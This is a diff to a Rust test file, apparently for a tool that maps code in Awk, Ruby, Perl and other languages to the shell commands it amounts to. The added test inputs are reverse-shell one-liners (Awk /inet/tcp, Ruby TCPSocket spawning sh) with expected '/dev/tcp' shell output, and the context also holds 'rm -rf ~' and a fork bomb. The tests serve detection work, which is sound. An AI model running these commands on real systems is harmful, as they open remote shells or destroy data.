@@ -94,6 +94,17 @@ fn deeds_are_written_as_the_commands_that_they_are() {
             ("!rm -rf ~", "sh rm -rf ~"),
         ],
     );
+    check(
+        Language::Awk,
+        &[(
+            "BEGIN{s=\"/inet/tcp/0/h/4\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}",
+            "sh sh -i >& /dev/tcp/?/1 0>&1\nsh /inet/tcp/0/h/4\nsh ?\nsh /inet/tcp/0/h/4",
+        )],
+    );
+    check(
+        Language::Ruby,
+        &[("spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"h\",4))", "sh sh -i >& /dev/tcp/?/1 0>&1\nsh sh")],
+    );
     check(Language::Perl, &[("fork while fork", "sh :(){ :|:& };:")]);
     check(
         Language::JavaScript,
